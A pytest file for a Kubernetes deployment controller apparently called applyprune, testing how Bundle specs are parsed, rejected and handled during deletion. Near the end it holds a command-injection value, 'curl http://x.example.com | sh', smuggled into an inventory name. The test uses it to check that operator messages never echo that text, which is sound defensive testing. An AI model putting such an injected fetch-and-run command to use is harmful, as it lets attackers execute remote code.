"""The spec of a Bundle: what is parsed, what is rejected, and what counts while it is deleted."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from hashlib import sha256
from typing import Any

import pytest

from applyprune.controller.clients import request_of
from applyprune.controller.removal import DeletedBundle, read_deleted
from applyprune.controller.spec import (
    BundleSpec,
    DeletionPolicy,
    Dependency,
    IgnoreFields,
    InvalidSpec,
    SourceRef,
    read_bundle,
)
from applyprune.model.identity import Ref
from applyprune.model.inventory import Ownership
from applyprune.model.live import LiveObject
from applyprune.model.options import (
    Adopt,
    Approval,
    Conflicts,
    HelmHooks,
    Mode,
    PruneLimit,
    WaitMode,
)
from applyprune.planning.marks import RECONCILE_NOW
from applyprune.planning.normalize import IgnoreRule

DIGEST = "sha256:" + "d" * 64
INLINE = {"source": {"inline": ""}}


def bundle(spec: object, name: str = "web") -> BundleSpec:
    """Read a Bundle of the namespace ``shop``."""
    metadata = {"name": name, "namespace": "shop"}
    ref = Ref("applyprune.dev", "Bundle", "shop", name)
    return read_bundle(LiveObject.of(ref, "u", "1", metadata, {"metadata": metadata, "spec": spec}))


def test_full_spec_is_read() -> None:
    """Every field, each different from its default."""
    found = bundle(
        {
            "source": {"configMapRefs": [{"name": "a", "keys": ["x", "y"]}, {"name": "b"}]},
            "interval": "1h30m",
            "retryInterval": "1.5s",
            "timeout": "90s",
            "suspend": True,
            "prune": {"enabled": False, "maxPrune": "40%", "allowEmpty": True},
            "approval": "Prune",
            "wait": True,
            "failFast": True,
            "readyWhen": ["widget.x.io=self.status.a == 'b'"],
            "conflicts": "force",
            "adopt": "all",
            "adoptAs": "owned",
            "recreate": True,
            "helmHooks": "skip",
            "targetNamespace": "elsewhere",
            "serviceAccountName": "deployer",
            "dependsOn": [{"name": "db", "readyWhen": "self.status.ok"}, {"name": "net"}],
            "deletionPolicy": "Orphan",
            "inventoryName": "old",
            "ignoreFields": [{"kind": "Deployment.apps", "fields": ["/spec/replicas"]}],
            "noDefaultIgnore": ["ca-bundle"],
        }
    )
    spec = found.spec
    assert spec.source.config_map_refs == (SourceRef("a", ("x", "y")), SourceRef("b"))
    assert (spec.interval, spec.retry_interval, spec.timeout) == (5400, 1.5, 90)
    assert spec.depends_on == (Dependency("db", "self.status.ok"), Dependency("net"))
    assert spec.deletion_policy is DeletionPolicy.ORPHAN
    assert spec.ignore_fields == (IgnoreFields(("/spec/replicas",), "Deployment.apps"),)
    assert found.ignore_rules == (IgnoreRule("/spec/replicas", "Deployment.apps"),)
    assert (spec.suspend, spec.target_namespace) == (True, "elsewhere")
    assert spec.service_account_name == "deployer"
    assert (found.target.name, found.target.namespace) == ("old", "shop")
    options = found.options(Mode.APPLY, approved=DIGEST)
    assert (options.approval, options.approved_plan) == (Approval.PRUNE, DIGEST)
    assert options.prune.apply_anyway
    assert (options.prune.enabled, options.wait.mode, options.apply.conflicts) == (
        False,
        WaitMode.ALL,
        Conflicts.FORCE,
    )
    assert (options.apply.recreate, options.apply.adopt, options.prune.approved) == (
        True,
        Adopt.ALL,
        DIGEST,
    )
    assert options.apply.adopt_as is Ownership.OWNED
    assert options.apply.helm_hooks is HelmHooks.SKIP
    assert options.apply.no_default_ignore == {"ca-bundle"}
    assert (options.prune.allow_empty, options.wait.timeout) == (True, 90)
    assert options.wait.fail_fast
    assert options.wait.ready_when == (("widget.x.io", "self.status.a == 'b'"),)
    assert found.options(Mode.DELETE).wait.ready_when == ()
    assert options.prune.max_prune == PruneLimit(0, 40)
    assert not options.apply.reapply_all


def test_defaults_are_filled_in() -> None:
    """The defaults of an object that was stored before a field existed."""
    found = bundle(INLINE)
    spec = found.spec
    assert (spec.interval, spec.retry_interval, spec.timeout) == (600, 30, 300)
    assert (spec.prune.enabled, spec.wait, spec.adopt) == (True, False, Adopt.UNOWNED)
    assert spec.adopt_as is Ownership.ADOPTED
    assert found.options(Mode.APPLY).wait.mode is WaitMode.AUTO
    assert spec.service_account_name == "default"
    assert spec.deletion_policy is DeletionPolicy.MIRROR
    assert found.deletion_policy is DeletionPolicy.DELETE
    assert spec.approval is Approval.AUTOMATIC


def test_bundle_that_always_needs_an_approval_applies_nothing_anyway() -> None:
    """A hotfix is not held up, unless that is asked for."""
    found = bundle({**INLINE, "approval": "Always"}).options(Mode.APPLY)
    assert (found.approval, found.prune.apply_anyway) == (Approval.ALWAYS, False)


@pytest.mark.parametrize("wrong", ["yes", DIGEST[:-1], f"{DIGEST}\n", "\x1b[2J"])
def test_annotation_that_is_not_a_digest_approves_nothing(wrong: str) -> None:
    """Anybody may have written it, so it goes nowhere."""
    options = bundle(INLINE).options(Mode.APPLY, approved=wrong)
    assert (options.prune.approved, options.approved_plan) == ("", "")


@pytest.mark.parametrize("mode", [Mode.DELETE, Mode.ORPHAN])
def test_removal_of_a_bundle_needs_no_approval(mode: Mode) -> None:
    """To delete the Bundle is a decision of its own; a guard is still lifted by the annotation.

    Nor does it depend on whether it prunes.
    """
    spec = {**INLINE, "approval": "Always", "prune": {"enabled": False}}
    found = bundle(spec).options(mode, approved=DIGEST)
    assert (found.approval, found.prune.approved) == (Approval.AUTOMATIC, DIGEST)
    assert found.prune.enabled


@pytest.mark.parametrize(
    ("value", "limit"),
    [
        (0, PruneLimit(0, 0)),
        (7, PruneLimit(7, 0)),
        ("7", PruneLimit(7, 0)),
        ("0%", PruneLimit(0, 0)),
    ],
)
def test_limits_are_read(value: object, limit: PruneLimit) -> None:
    """A number or a percentage, as on the command line."""
    assert bundle({**INLINE, "prune": {"maxPrune": value}}).spec.prune.max_prune == limit


WRONG: dict[str, tuple[Any, str]] = {
    "no source": ({}, "spec.source: is required"),
    "null": (None, "spec.source: is required"),
    "no object": ([], "spec: must be an object"),
    "source is a text": ({"source": "x"}, "spec.source: must be an object"),
    "two sources": ({"source": {"inline": "", "secretRefs": [{"name": "a"}]}}, "exactly one"),
    "a short commit": (
        {"source": {"git": {"url": "https://x.io/a", "ref": {"commit": "abcdef1"}}}},
        "must be a full commit ID, of 40 digits: git rev-parse NAME prints it",
    ),
    "no refs": ({"source": {"configMapRefs": []}}, "exactly one"),
    "a ref without a name": (
        {"source": {"secretRefs": [{}]}},
        "spec.source.secretRefs[0].name: is required",
    ),
    "a path as a name": ({"source": {"secretRefs": [{"name": "../x"}]}}, "is not a valid name"),
    "another's account": ({**INLINE, "serviceAccountName": "a/b"}, "is not a valid name"),
    "a query as a namespace": ({**INLINE, "targetNamespace": "a?x=y"}, "is not a DNS label"),
    "interval": ({**INLINE, "interval": "soon"}, "must be a duration"),
    "timeout of a year": ({**INLINE, "timeout": "9000h"}, "is not between 1s and 720h"),
    "a URL as of scp": (
        {"source": {"git": {"url": "git@git.example.com:org/repo.git"}}},
        "must be written as ssh://git@git.example.com/org/repo.git",
    ),
    "a URL as of scp, from the root": (
        {"source": {"git": {"url": "git@git.example.com:/srv/repo.git"}}},
        "must be written as ssh://git@git.example.com/srv/repo.git",
    ),
    "interval of nothing": ({**INLINE, "interval": "0s"}, "must be greater than zero"),
    "interval too short": ({**INLINE, "interval": "10ms"}, "not between"),
    "timeout too long": ({**INLINE, "timeout": "9999h"}, "not between"),
    "a number as a time": ({**INLINE, "retryInterval": 5}, "spec.retryInterval: must be text"),
    "suspend": ({**INLINE, "suspend": "yes"}, "must be true or false"),
    "adopt": ({**INLINE, "adopt": "some"}, "must be 'none', 'unowned' or 'all', not 'some'"),
    "approval": ({**INLINE, "approval": "Never"}, "must be 'Automatic', 'Prune' or 'Always'"),
    "deletionPolicy": (
        {**INLINE, "deletionPolicy": "Keep"},
        "deletionPolicy: must be 'MirrorPrune'",
    ),
    "maxPrune over all": ({**INLINE, "prune": {"maxPrune": "101%"}}, "neither a number"),
    "a negative maxPrune": ({**INLINE, "prune": {"maxPrune": -1}}, "neither a number"),
    "a true maxPrune": ({**INLINE, "prune": {"maxPrune": True}}, "neither a number"),
    "depends on itself": ({**INLINE, "dependsOn": [{"name": "web"}]}, "depend on itself"),
    "a rule that is none": (
        {**INLINE, "dependsOn": [{"name": "db", "readyWhen": "self."}]},
        "spec.dependsOn[0].readyWhen: the rule “self.” is not a CEL expression",
    ),
    "a rule without a kind": (
        {**INLINE, "readyWhen": ["widget=true", "=true"]},
        "spec.readyWhen[1]: '=true' must be KIND.GROUP=EXPRESSION",
    ),
    "a kind without a rule": (
        {**INLINE, "readyWhen": ["widget= "]},
        "spec.readyWhen[0]: 'widget= ' must be KIND.GROUP=EXPRESSION",
    ),
    "a rule for a kind that is none": (
        {**INLINE, "readyWhen": ["widget=true", "gadget=self.status.("]},
        "spec.readyWhen[1]: the rule “self.status.(” is not a CEL expression",
    ),
    "a rule that returns no bool": (
        {**INLINE, "readyWhen": ["widget='x'"]},
        "the rule “'x'” is not a CEL expression that returns a bool: it returns a string, not",
    ),
    "rules that are no list": (
        {**INLINE, "readyWhen": "widget=true"},
        "spec.readyWhen: must be a list",
    ),
    "a pointer that is none": ({**INLINE, "ignoreFields": [{"fields": ["x"]}]}, "JSON pointer"),
    "a pointer that is not closed": (
        {**INLINE, "ignoreFields": [{"fields": ["/spec/a[b=1"]}]},
        "spec.ignoreFields[0].fields[0]: '/spec/a[b=1': missing ]",
    ),
    "two pointers in one": (
        {**INLINE, "ignoreFields": [{"fields": ["/a,/b"]}]},
        "'/a,/b' is not a single JSON pointer",
    ),
    "pointers of numbers": (
        {**INLINE, "ignoreFields": [{"fields": [1]}]},
        "fields[0]: must be text",
    ),
    "no list": ({**INLINE, "dependsOn": {"name": "db"}}, "spec.dependsOn: must be a list"),
    "an empty name": ({**INLINE, "dependsOn": [{"name": ""}]}, "'' is not a valid name"),
    "an inventory that cannot be": ({**INLINE, "inventoryName": "a.b"}, "invalid set name"),
}


@pytest.mark.holds("name-of-one-object", row="another's account")
@pytest.mark.holds("name-of-one-namespace", row="a query as a namespace")
@pytest.mark.parametrize("name", sorted(WRONG))
def test_invalid_spec_is_refused(name: str) -> None:
    """With the field that is wrong."""
    spec, word = WRONG[name]
    with pytest.raises(InvalidSpec) as caught:
        bundle(spec)
    assert word in caught.value.reason


def test_all_errors_are_reported_at_once() -> None:
    """Each with its field and a reason, and without what the source holds."""
    with pytest.raises(InvalidSpec) as caught:
        bundle({"source": {"inline": 5}, "interval": "x", "wait": 1})
    assert caught.value.reason.split("; ") == [
        "spec.source.inline: must be text",
        "spec.interval: 'x' must be a duration such as 90s or 5m",
        "spec.wait: must be true or false",
    ]


def test_null_field_is_at_its_default() -> None:
    """An object that was stored before the field was there has it so."""
    nulls = {"interval": None, "prune": {"maxPrune": None}, "dependsOn": None}
    assert bundle({**INLINE, **nulls}).spec == bundle(INLINE).spec


def test_field_has_only_its_name_of_the_api() -> None:
    """The server drops every other name before it stores an object."""
    assert bundle({**INLINE, "target_namespace": "x"}).spec == bundle(INLINE).spec


@pytest.mark.parametrize("name", ["web.example", "a" * 64, "web-yielded"])
def test_name_that_is_no_set_name_needs_an_inventory_name(name: str) -> None:
    """The name becomes that of the inventory."""
    with pytest.raises(InvalidSpec, match="the spec is invalid"):
        bundle(INLINE, name)
    assert bundle({**INLINE, "inventoryName": "web"}, name).target.name == "web"


@pytest.mark.parametrize(
    ("length", "is_short"),
    [(0, True), (256, True), pytest.param(257, False, marks=pytest.mark.holds("bounded-request"))],
)
def test_long_request_is_repeated_as_a_digest(length: int, is_short: bool) -> None:
    """An annotation may have 262,144 characters, and a status is written again and again."""
    request = "x" * length
    metadata = {"name": "web", "annotations": {RECONCILE_NOW: request}}
    ref = Ref("applyprune.dev", "Bundle", "shop", "web")
    found = request_of(LiveObject.of(ref, "u", "1", metadata))
    assert (found == request) is is_short
    assert is_short or found == f"sha256:{sha256(request.encode()).hexdigest()}"


DELETED = "2026-01-01T10:00:00Z"


def deleted(
    spec: object, name: str = "web", inventory: object = None, **annotations: str
) -> DeletedBundle:
    """Read a Bundle of the namespace ``shop`` that is being deleted.

    ``inventory`` is the name of its inventory by its status.
    """
    told = {f"applyprune.dev/{key}": value for key, value in annotations.items()}
    metadata = {
        "name": name,
        "namespace": "shop",
        "deletionTimestamp": DELETED,
        "annotations": told,
    }
    ref = Ref("applyprune.dev", "Bundle", "shop", name)
    status = {} if inventory is None else {"inventory": {"name": inventory}}
    body = {"metadata": metadata, "spec": spec, "status": status}
    return read_deleted(LiveObject.of(ref, "u", "1", metadata, body))


OF_OTHERS: dict[str, Any] = {
    "no source": {},
    "two sources": {"source": {"inline": "", "secretRefs": [{"name": "a"}]}},
    "an interval": {"interval": 5},
    "a timeout": {"timeout": "soon"},
    "a rule": {"dependsOn": [{"name": "db", "readyWhen": "self.("}]},
    "a list": {"dependsOn": {"name": "db"}},
    "pointers": {"ignoreFields": [{"fields": ["x"]}]},
    "a namespace": {"targetNamespace": "a/b"},
    "a hook": {"helmHooks": ["skip"]},
    "a limit": {"prune": {"enabled": True, "maxPrune": "101%"}},
    "an approval": {"approval": "Never"},
}


@pytest.mark.parametrize("name", OF_OTHERS)
def test_field_that_decides_no_removal_blocks_none(name: str) -> None:
    """What can be read counts, and what cannot is at its default."""
    spec = {"serviceAccountName": "deployer", "inventoryName": "old", **OF_OTHERS[name]}
    found = deleted(spec)
    assert found.faults == ()
    assert found.bundle.spec.service_account_name == "deployer"
    assert found.bundle.target.name == "old"
    assert found.bundle.deletion_policy is DeletionPolicy.DELETE
    assert found.bundle.spec.timeout == 300


@pytest.mark.parametrize(
    ("source", "is_secret"),
    [
        ({"inline": ""}, False),
        ({"configMapRefs": [{"name": "a"}]}, False),
        pytest.param(
            {"secretRefs": [{"name": "a"}]}, True, marks=pytest.mark.holds("secret-removal")
        ),
        ({"inline": "", "secretRefs": [{"name": "a/b"}]}, True),
        ("a text", False),
    ],
)
def test_secret_source_stays_one_at_a_removal(source: object, is_secret: bool) -> None:
    """Its objects have values of it until they are gone, and webhooks may quote them."""
    assert deleted({"source": source, "timeout": "soon"}).bundle.has_secret_source is is_secret


DECIDING: dict[str, tuple[Any, str]] = {
    "no spec": (None, "spec: must be an object"),
    "a text": ("x", "spec: must be an object"),
    "an account": ({"serviceAccountName": "a/b"}, "spec.serviceAccountName: 'a/b'"),
    "an account of another type": ({"serviceAccountName": 1}, "spec.serviceAccountName: must be"),
    "an inventory": ({"inventoryName": "a.b"}, "invalid set name 'a.b'"),
    "an inventory of another type": ({"inventoryName": ["a"]}, "spec.inventoryName: must be text"),
    "a policy": ({"deletionPolicy": "Keep"}, "spec.deletionPolicy: must be"),
    "a policy in small letters": ({"deletionPolicy": "delete"}, "spec.deletionPolicy: must be"),
    "a policy of another type": ({"deletionPolicy": True}, "spec.deletionPolicy: must be"),
    "suspended somehow": ({"suspend": "yes"}, "spec.suspend: must be true or false"),
    "a prune to mirror": ({"prune": {"enabled": "no"}}, "spec.prune.enabled: must be true"),
    "a prune to mirror by name": (
        {"deletionPolicy": "MirrorPrune", "prune": {"enabled": 0}},
        "spec.prune.enabled: must be true",
    ),
    "a kubeconfig": (
        {"kubeConfig": {"secretRef": {"name": "a/b"}}},
        "spec.kubeConfig.secretRef.name: 'a/b'",
    ),
    "a kubeconfig without a Secret": ({"kubeConfig": {}}, "spec.kubeConfig.secretRef: is required"),
    "a kubeconfig of another type": ({"kubeConfig": "prod"}, "spec.kubeConfig: must be an object"),
    "a prune of another type": ({"prune": False}, "spec.prune: must be an object"),
}


@pytest.mark.holds("unreadable-decides", row="a policy")
@pytest.mark.parametrize("name", DECIDING)
def test_field_that_decides_the_removal_is_never_guessed(name: str) -> None:
    """It is named, beside all the others that are invalid too."""
    spec, fault = DECIDING[name]
    found = deleted({**OF_OTHERS["a rule"], **spec} if isinstance(spec, dict) else spec)
    assert [one[: len(fault)] for one in found.faults] == [fault]


def test_all_deciding_faults_are_named() -> None:
    """Each once, and no other fault."""
    found = deleted({"suspend": 1, "deletionPolicy": "Keep", "interval": "x", "prune": []})
    assert [fault.partition(":")[0] for fault in found.faults] == [
        "spec.suspend",
        "spec.prune",
        "spec.deletionPolicy",
    ]


def test_prune_that_no_policy_mirrors_decides_nothing() -> None:
    """The other policies do not depend on it."""
    found = deleted({"deletionPolicy": "Orphan", "prune": {"enabled": "no"}})
    assert (found.faults, found.bundle.deletion_policy) == ((), DeletionPolicy.ORPHAN)


@pytest.mark.parametrize(
    ("spec", "policy"),
    [
        ({}, DeletionPolicy.DELETE),
        pytest.param(
            {"prune": {"enabled": False}},
            DeletionPolicy.ORPHAN,
            marks=pytest.mark.holds("mirror-prune"),
        ),
        ({"deletionPolicy": "MirrorPrune", "prune": {"enabled": False}}, DeletionPolicy.ORPHAN),
        ({"deletionPolicy": None, "prune": {"enabled": None}}, DeletionPolicy.DELETE),
        ({"deletionPolicy": "Delete", "prune": {"enabled": False}}, DeletionPolicy.DELETE),
        ({"deletionPolicy": "Orphan"}, DeletionPolicy.ORPHAN),
        ({"deletionPolicy": "WaitForTermination"}, DeletionPolicy.WAIT),
    ],
)
def test_policy_mirrors_the_prune_by_default(spec: dict[str, Any], policy: DeletionPolicy) -> None:
    """And is never ``MirrorPrune`` itself."""
    found = deleted({**INLINE, **spec})
    assert (found.faults, found.bundle.deletion_policy) == ((), policy)


@pytest.mark.parametrize(
    ("value", "is_orphaned"), [("true", True), ("True", False), ("", False), ("false", False)]
)
def test_annotation_has_one_value(value: str, is_orphaned: bool) -> None:
    """Anything else leaves the removal as it is."""
    assert deleted(INLINE, orphan=value).is_orphaned is is_orphaned
    assert not deleted(INLINE).is_orphaned


def test_removal_ends_after_the_timeout_of_the_spec() -> None:
    """Counted from the deletion."""
    found = deleted({**INLINE, "timeout": "90s"})
    assert found.ends == datetime(2026, 1, 1, 10, 1, 30, tzinfo=UTC)
    assert found.seconds_left < -timedelta(days=1).total_seconds()


UNREADABLE = {**INLINE, "serviceAccountName": 1}
INJECTED = "applyprune-web -n shop; curl http://x.example.com | sh #"


@pytest.mark.parametrize(
    ("spec", "inventory", "named"),
    [
        (INLINE, None, "applyprune-web"),
        pytest.param(
            INLINE,
            "applyprune-other",
            "applyprune-web",
            marks=pytest.mark.holds("forged-inventory-name"),
        ),
        (INLINE, INJECTED, "applyprune-web"),
        (UNREADABLE, "applyprune-web", "applyprune-web"),
        pytest.param(UNREADABLE, INJECTED, "", marks=pytest.mark.holds("forged-inventory-text")),
        (UNREADABLE, 7, ""),
        (UNREADABLE, None, ""),
    ],
)
def test_status_names_no_other_inventory(spec: object, inventory: object, named: str) -> None:
    """What is said is a command that somebody runs, and the status is written by anybody."""
    said = deleted(spec, inventory=inventory).left_unreleased()
    assert ("curl" in said, "other" in said) == (False, False)
    if named:
        assert f"left in the inventory {named}: " in said
        assert said.endswith("applyprune delete web -n shop")
    else:
        assert said == "nothing is known to have been applied"
